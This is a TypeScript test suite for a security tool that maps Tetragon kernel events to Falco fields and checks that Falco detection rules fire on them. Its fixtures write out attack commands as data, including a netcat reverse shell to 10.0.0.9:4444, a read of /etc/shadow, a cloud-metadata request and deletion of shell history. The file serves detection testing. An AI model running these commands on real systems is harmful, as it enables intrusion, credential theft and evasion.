import { copyFileSync, mkdtempSync } from 'node:fs';
import https from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FieldKeyTable, type Alert, type SyscallEvent } from '../src/event/index.js';
import { Engine, loadRules } from '../src/engine/index.js';
import { FalcoGrpcSource, FalcoHttpSource, TetragonSource, TetragonDecoder } from '../src/sources/index.js';
import { makeCerts } from './helpers/certs.js';
import { collect, until } from './helpers/wait.js';
import { encode, falcoServer, tetragonServer } from './helpers/grpc-servers.js';
import { tetragonExec, tetragonExit, tetragonKprobe } from './helpers/tetragon-events.js';
import { UPSTREAM_RULES } from './helpers/upstream.js';

const table = new FieldKeyTable();
const cleanup: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const fn of cleanup.splice(0).reverse()) await fn();
});

const nonRoot = (e: object): object => {
  const k = e as { process_kprobe: { process: object } };
  return {
    ...k,
    process_kprobe: {
      ...k.process_kprobe,
      process: { ...k.process_kprobe.process, uid: { value: 1000 }, user: { name: 'app' } },
    },
  };
};

/** Each Tetragon mapping, and the upstream Falco rule that must fire on the mapped event. */
const MAPPINGS: Array<[string, object, string, string]> = [
  [
    'process_exec',
    tetragonExec('/usr/bin/nc', '-e /bin/sh 10.0.0.9 4444'),
    'execve',
    'Netcat Remote Code Execution in Container',
  ],
  [
    'process_exec (package manager)',
    tetragonExec('/usr/bin/apt-get', 'install nmap'),
    'execve',
    'Launch Package Management Process in Container',
  ],
  [
    'security_file_permission read',
    tetragonKprobe('security_file_permission', [{ file_arg: { path: '/etc/shadow' } }, { int_arg: 4 }], { int_arg: 0 }),
    'openat',
    'Read sensitive file untrusted',
  ],
  [
    'security_file_permission write',
    tetragonKprobe(
      'security_file_permission',
      [{ file_arg: { path: '/usr/bin/ls' } }, { int_arg: 2 }],
      { int_arg: 0 },
      '/usr/bin/cp',
      'x /usr/bin/ls',
    ),
    'openat',
    'Write below binary dir',
  ],
  [
    'tcp_connect',
    tetragonKprobe(
      'tcp_connect',
      [
        {
          sock_arg: {
            family: 'AF_INET',
            type: 'SOCK_STREAM',
            protocol: 'IPPROTO_TCP',
            saddr: '10.0.0.5',
            daddr: '169.254.169.254',
            sport: 40000,
            dport: 80,
          },
        },
      ],
      undefined,
      '/usr/bin/curl',
      'http://169.254.169.254/',
    ),
    'connect',
    'Contact cloud metadata service from container',
  ],
  [
    'sys_setuid',
    nonRoot(tetragonKprobe('__x64_sys_setuid', [{ int_arg: 0 }], { int_arg: 0 }, '/tmp/x', '')),
    'setuid',
    'Non sudo setuid',
  ],
  [
    'sys_ptrace',
    tetragonKprobe(
      '__x64_sys_ptrace',
      [{ long_arg: 16 }, { long_arg: 4242 }],
      { int_arg: 0 },
      '/usr/bin/gdb',
      '-p 4242',
    ),
    'ptrace',
    'PTRACE attached to process',
  ],
  [
    'security_path_unlink',
    tetragonKprobe(
      'security_path_unlink',
      [{ path_arg: { path: '/root/.bash_history' } }],
      { int_arg: 0 },
      '/usr/bin/rm',
      '/root/.bash_history',
    ),
    'unlinkat',
    'Delete or rename shell history',
  ],
  [
    'sys_finit_module',
    tetragonKprobe('__x64_sys_finit_module', [{ int_arg: 3 }], { int_arg: 0 }, '/usr/sbin/insmod', 'x.ko'),
    'finit_module',
    'Linux Kernel Module Injection Detected',
  ],
  [
    'sys_setns',
    tetragonKprobe('__x64_sys_setns', [{ int_arg: 3 }, { int_arg: 0 }], { int_arg: 0 }, '/usr/bin/nsenter', '-t 1'),
    'setns',
    'Change thread namespace',
  ],
];

describe('Tetragon mapping to Falco fields', () => {
  const load = loadRules(UPSTREAM_RULES, table);
  const engine = new Engine(load, { ruleMatching: 'all' });
  const decoder = new TetragonDecoder(table, loadProtoRoot());
  for (const [name, msg, type, rule] of MAPPINGS) {
    it(`${name} → ${type}: upstream rule '${rule}' fires`, () => {
      const d = decoder.decode(encode('tetragon.GetEventsResponse', msg));
      expect(d.event?.type).toBe(type);
      const fired: string[] = [];
      engine.evaluate(d.event!, (r) => fired.push(r.name));
      expect(fired).toContain(rule);
    });
  }
  it('pod and container metadata become k8s.* and container.* fields; process_exit becomes procexit', () => {
    const e = decoder.decode(encode('tetragon.GetEventsResponse', tetragonExec('/usr/bin/nc', '-e /bin/sh'))).event!;
    const g = (k: string): unknown => e.get(table, k);
    expect([
      g('k8s.ns.name'),
      g('k8s.pod.name'),
      g('k8s.pod.label[app]'),
      g('k8s.workload.kind'),
      g('container.id'),
      g('container.image.repository'),
      g('container.image.tag'),
    ]).toEqual(['shop', 'web-7d9c', 'web', 'Deployment', '3ad7b26ded6d', 'docker.io/library/nginx', '1.27']);
    expect([
      g('proc.name'),
      g('proc.cmdline'),
      g('proc.pname'),
      g('proc.aname[2]'),
      g('user.loginuid'),
      g('evt.time'),
    ]).toEqual(['nc', 'nc -e /bin/sh', 'bash', 'containerd-shim-runc-v2', -1, 1_764_424_800_123_456_789n]);
    const x = decoder.decode(encode('tetragon.GetEventsResponse', tetragonExit()));
    expect([x.event?.type, x.event?.get(table, 'evt.arg.sig')]).toEqual(['procexit', 'SIGKILL']);
  });
  it('unknown kinds are reported by kind (for counting), rate-limit info as lost events', () => {
    expect(
      decoder.decode(
        encode('tetragon.GetEventsResponse', { process_tracepoint: { subsys: 'raw_syscalls', event: 'sys_enter' } }),
      ).kind,
    ).toBe('process_tracepoint');
    expect(decoder.decode(encode('tetragon.GetEventsResponse', tetragonKprobe('tcp_close', []))).kind).toBe(
      'kprobe:tcp_close',
    );
    expect(
      decoder.decode(
        encode('tetragon.GetEventsResponse', { rate_limit_info: { number_of_dropped_process_events: 17 } }),
      ).lost,
    ).toBe(17);
  });
  it('asks Tetragon (allow_list) only for what the rules can use', () => {
    expect(TetragonSource.allowList(['execve', 'openat'])).toEqual([{ event_set: ['PROCESS_EXEC', 'PROCESS_KPROBE'] }]);
    expect(TetragonSource.allowList(['procexit'])).toEqual([{ event_set: ['PROCESS_EXIT'] }]);
  });
});

const certs = makeCerts();

describe('Tetragon source over real gRPC', () => {
  for (const [label, listen, serverTls, clientTls] of [
    ['TCP', '127.0.0.1:0', undefined, undefined],
    ['unix socket', `unix://${join(mkdtempSync(join(tmpdir(), 'tg-')), 'tetragon.sock')}`, undefined, undefined],
    [
      'mutual TLS',
      '127.0.0.1:0',
      { cert: certs.serverCert, key: certs.serverKey, ca: certs.ca },
      { ca: certs.ca, cert: certs.clientCert, key: certs.clientKey, serverName: 'localhost' },
    ],
  ] as const) {
    it(`${label}: streams mapped events, counts malformed and unknown messages, and survives a restart`, async () => {
      const server = await tetragonServer(listen, serverTls);
      cleanup.push(() => server.stop());
      const src = new TetragonSource(
        {
          address: server.address,
          tls: clientTls,
          eventTypes: ['execve', 'openat'],
          reconnect: { baseMs: 50, maxMs: 500 },
        },
        table,
      );
      await src.start();
      cleanup.push(() => src.shutdown());
      await until(() => server.requests.length === 1);
      expect(server.requests[0]).toMatchObject({ allow_list: [{ event_set: ['PROCESS_EXEC', 'PROCESS_KPROBE'] }] });
      server.send([
        encode('tetragon.GetEventsResponse', MAPPINGS[0][1]),
        Buffer.from([0x0a, 0xff, 0x01]), // malformed
        encode('tetragon.GetEventsResponse', { process_tracepoint: { subsys: 'x', event: 'y' } }),
        encode('tetragon.GetEventsResponse', MAPPINGS[2][1]),
      ]);
      const evs = (await collect(src, 2)) as SyscallEvent[];
      expect(evs.map((e) => e.type)).toEqual(['execve', 'openat']);
      await until(() => src.stats.malformed === 1 && src.stats.unknownKinds === 1);
      expect(src.unknownByKind.get('process_tracepoint')).toBe(1);
      expect(await src.version()).toEqual({ version: 'v1.7.0' });
      if (label === 'TCP') {
        server.kill();
        await until(() => !src.stats.connected);

        const again = await tetragonServer(server.address);
        cleanup.push(() => again.stop());
        await until(() => again.requests.length === 1, 15_000);

        again.send([encode('tetragon.GetEventsResponse', MAPPINGS[4][1])]);
        const [e] = (await collect(src, 1, 15_000)) as SyscallEvent[];
        expect(e.type).toBe('connect');
        expect(src.stats.connects).toBe(2);
      }
    });
  }
});

const falcoResponse = (rule: string, priority: number, fields: Record<string, string> = {}): Buffer =>
  encode('falco.outputs.response', {
    time: { seconds: 1764424800, nanos: 5 },
    priority,
    rule,
    output: `${rule} happened`,
    output_fields: fields,
    hostname: 'node-1',
    tags: ['container'],
    source: 'syscall',
  });

describe('Falco gRPC outputs source', () => {
  it('keeps sub flowing with empty requests and maps alerts', async () => {
    const server = await falcoServer();
    cleanup.push(() => server.stop());
    const src = new FalcoGrpcSource({ address: server.address });
    await src.start();
    cleanup.push(() => src.shutdown());
    server.send([falcoResponse('Terminal shell in container', 5, { 'proc.name': 'bash', 'fd.name': '<NA>' })]);
    const [a] = (await collect(src, 1)) as Alert[];
    expect(a).toMatchObject({
      rule: 'Terminal shell in container',
      priority: 'Notice',
      hostname: 'node-1',
      tags: ['container'],
      source: 'syscall',
      time: '2025-11-29T14:00:00.000000005Z',
      output_fields: { 'proc.name': 'bash', 'fd.name': null },
    });
    // alerts queued after the first drain only arrive because the client keeps sending requests
    await new Promise((r) => setTimeout(r, 100));
    server.send([falcoResponse('A', 2), falcoResponse('B', 6)]);
    const more = (await collect(src, 2)) as Alert[];
    expect(more.map((x) => [x.rule, x.priority])).toEqual([
      ['A', 'Critical'],
      ['B', 'Informational'],
    ]);
    expect(server.requestsSeen()).toBeGreaterThan(1);
    await until(() => src.falcoVersion === '0.43.0');
  });

  it('mutual TLS over TCP; a client certificate from another CA is refused', async () => {
    const tls = { cert: certs.serverCert, key: certs.serverKey, ca: certs.ca };
    const server = await falcoServer('127.0.0.1:0', tls);
    cleanup.push(() => server.stop());
    const good = new FalcoGrpcSource({
      address: server.address,
      tls: { ca: certs.ca, cert: certs.clientCert, key: certs.clientKey, serverName: 'localhost' },
    });
    await good.start();
    cleanup.push(() => good.shutdown());
    server.send([falcoResponse('R', 4)]);
    expect(((await collect(good, 1)) as Alert[])[0].priority).toBe('Warning');
    const bad = new FalcoGrpcSource({
      address: server.address,
      tls: { ca: certs.ca, cert: certs.otherClientCert, key: certs.otherClientKey, serverName: 'localhost' },
    });
    await bad.start();
    cleanup.push(() => bad.shutdown());
    await new Promise((r) => setTimeout(r, 1_500));
    expect(bad.stats.connects).toBe(0);
  });
});

function post(url: string, body: string, opts: https.RequestOptions = {}): Promise<{ status: number; text: string }> {
  const mod = url.startsWith('https') ? https : (require('node:http') as typeof https);
  return new Promise((resolve, reject) => {
    const req = mod.request(
      url,
      { method: 'POST', headers: { 'content-type': 'application/json' }, ...opts },
      (res) => {
        let text = '';
        res.on('data', (c) => (text += c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}
import { createRequire } from 'node:module';
import { loadProtoRoot } from '../src/transport/index.js';
const require = createRequire(import.meta.url);

const falcoJson = (rule = 'Read sensitive file untrusted'): string =>
  JSON.stringify({
    time: '2026-11-29T10:00:00.123456789Z',
    rule,
    priority: 'Warning',
    source: 'syscall',
    hostname: 'node-1',
    output: '10:00:00.123456789: Warning Sensitive file opened',
    output_fields: { 'fd.name': '/etc/shadow', 'proc.pid': 42, 'user.name': null },
    tags: ['filesystem'],
  });

describe('Falco HTTP source (http_output / Falcosidekick input)', () => {
  it('accepts Falco JSON alerts; rejects bad ones with a clear status, each counted', async () => {
    const src = new FalcoHttpSource({
      listen: '127.0.0.1:0',
      secret: { header: 'X-Peregrine-Token', value: 's3cret' },
      bufferAlerts: 2,
    });
    await src.start();
    cleanup.push(() => src.shutdown());
    const url = `http://${src.address}/`;
    const auth = { headers: { 'content-type': 'application/json', 'x-peregrine-token': 's3cret' } };
    expect((await post(url, falcoJson(), auth)).status).toBe(200);
    const [a] = (await collect(src, 1)) as Alert[];
    expect(a).toMatchObject({
      rule: 'Read sensitive file untrusted',
      priority: 'Warning',
      output_fields: { 'fd.name': '/etc/shadow', 'proc.pid': 42, 'user.name': null },
    });
    expect((await post(url, falcoJson())).status).toBe(401);
    expect((await post(url, '{not json', auth)).status).toBe(400);
    const bad = await post(url, JSON.stringify({ rule: 'x', priority: 'loud' }), auth);
    expect([bad.status, bad.text]).toEqual([
      400,
      '"priority" must be a Falco priority (Emergency … Debug), got "loud"\n',
    ]);
    expect((await post(url, 'x'.repeat(2 * 1024 * 1024), auth)).status).toBe(413);
    expect((await post(`http://${src.address}/other`, falcoJson(), auth)).status).toBe(404);
    // buffer of 2: the third alert waits for the pipeline → 503 with Retry-After, counted
    expect(
      (await post(url, JSON.stringify([JSON.parse(falcoJson('a')), JSON.parse(falcoJson('b'))]), auth)).status,
    ).toBe(200);
    const full = await post(url, falcoJson('c'), auth);
    expect(full.status).toBe(503);
    expect(src.stats).toMatchObject({ decoded: 3, malformed: 3, dropped: 1 });
  });

  it('HTTPS with mutual TLS, picks up a changed server certificate without restart', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'http-tls-'));
    const cert = join(dir, 'server.crt');
    const key = join(dir, 'server.key');
    copyFileSync(certs.serverCert, cert);
    copyFileSync(certs.serverKey, key);
    const src = new FalcoHttpSource({ listen: '127.0.0.1:0', tls: { cert, key, ca: certs.ca } });
    await src.start();
    cleanup.push(() => src.shutdown());
    const url = `https://localhost:${src.address.split(':').pop()}/`;
    const { readFileSync } = await import('node:fs');
    const client = {
      ca: readFileSync(certs.ca),
      cert: readFileSync(certs.clientCert),
      key: readFileSync(certs.clientKey),
    };
    expect((await post(url, falcoJson(), client)).status).toBe(200);
    await expect(
      post(url, falcoJson(), {
        ca: client.ca,
        cert: readFileSync(certs.otherClientCert),
        key: readFileSync(certs.otherClientKey),
      }),
    ).rejects.toThrow();
    // rotate: a certificate from another CA; clients trusting only the old CA now fail, the new CA works
    const other = makeCerts();
    copyFileSync(other.serverCert, cert);
    copyFileSync(other.serverKey, key);
    let rotated = false;
    const end = Date.now() + 10_000;
    while (!rotated && Date.now() < end) {
      await new Promise((r) => setTimeout(r, 250));
      rotated = await post(url, falcoJson(), { ...client, ca: readFileSync(other.ca), agent: false }).then(
        (r) => r.status === 200,
        () => false,
      );
    }
    expect(rotated).toBe(true);
  });
});

describe('peregrine replay with a live source (the same plug-ins as the daemon)', () => {
  it('evaluates Tetragon events against the upstream rules and prints Falco alerts', async () => {
    const { spawn } = await import('node:child_process');
    const { fileURLToPath } = await import('node:url');
    const server = await tetragonServer();
    cleanup.push(() => server.stop());
    const bin = fileURLToPath(new URL('../bin/peregrine.js', import.meta.url));
    const child = spawn(
      process.execPath,
      [
        bin,
        'replay',
        '--rules',
        UPSTREAM_RULES[0],
        '--rules',
        UPSTREAM_RULES[1],
        '--source',
        `tetragon:${server.address}`,
        '--max-events',
        '1',
        '--rule-matching',
        'all',
      ],
      { stdio: ['ignore', 'pipe', 'pipe'] },
    );
    let out = '';
    let err = '';
    child.stdout.on('data', (c) => (out += c));
    child.stderr.on('data', (c) => (err += c));
    await until(() => server.requests.length === 1, 15_000);
    server.send([encode('tetragon.GetEventsResponse', MAPPINGS[0][1])]);
    const code = await new Promise<number | null>((r) => child.on('exit', r));
    expect(code, err).toBe(0);
    const rules = out
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as { rule: string }).rule);
    expect(rules).toContain('Netcat Remote Code Execution in Container');
    expect(err).toMatch(/"events":1/);
  });
});
